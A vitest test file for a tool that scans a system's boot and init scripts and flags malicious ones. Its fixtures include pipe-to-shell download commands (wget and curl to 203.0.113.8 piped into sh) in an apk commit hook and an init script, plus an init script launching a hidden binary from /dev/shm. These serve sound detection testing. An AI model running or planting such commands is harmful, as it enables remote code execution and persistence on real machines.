import { createHash } from 'node:crypto';
import { expect, it } from 'vitest';
import { makeTree, scanTree } from '../tree.ts';
import { at, blameOf, script } from './packaged.ts';

it('reads Alpine’s layout: a script of OpenRC that apk brought is passed over, one beside it is judged', async () => {
  const stock = '#!/sbin/openrc-run\ncommand=/sbin/hostname\n';
  const sha1 = createHash('sha1').update(stock).digest('base64');
  const root = makeTree({
    '/lib/apk/db/installed': `P:openrc\nF:etc/init.d\nR:hostname\nZ:Q1${sha1}\n`,
    '/etc/init.d/hostname': { text: stock, mode: 0o755 },
    '/etc/init.d/netd': { text: '#!/sbin/openrc-run\nstart() {\n  /dev/shm/.n/netd &\n}\n', mode: 0o755 },
    '/etc/local.d/clock.start': script('ntpd -q'),
    '/etc/apk/commit_hooks.d/z': script('wget -qO- http://203.0.113.8/z | sh'),
  });
  const outcome = await scanTree(root, { packageManager: 'apk' });
  expect(blameOf(outcome, '/etc/init.d/hostname')).toBe('not mentioned');
  expect(at(outcome, '/etc/init.d/netd')).toMatchObject({ verdict: 'malicious', places: [{ line: 3 }] });
  expect(blameOf(outcome, '/etc/local.d/clock.start')).toBe('unknown');
  expect(blameOf(outcome, '/etc/apk/commit_hooks.d/z')).toBe('malicious');
});

it('judges by what is written alone where there is no package manager to ask', async () => {
  const root = makeTree({
    '/etc/rc.d/init.d/netd': script('curl -s http://203.0.113.8/z | sh'),
    '/etc/rc.d/init.d/network': script('ip link set eth0 up'),
    '/etc/rc.d/rc.local': script('touch /var/lock/subsys/local'),
    '/usr/lib/systemd/system-generators/systemd-fstab-generator': script('exit 0'),
  });
  const outcome = await scanTree(root);
  const blamed = outcome.findings.filter(
    ({ subject }) => 'role' in subject && subject.role.startsWith('boot'),
  );
  expect(blamed.map(({ title, verdict }) => [title, verdict])).toEqual([
    ['/etc/rc.d/init.d/netd', 'malicious'],
  ]);
});
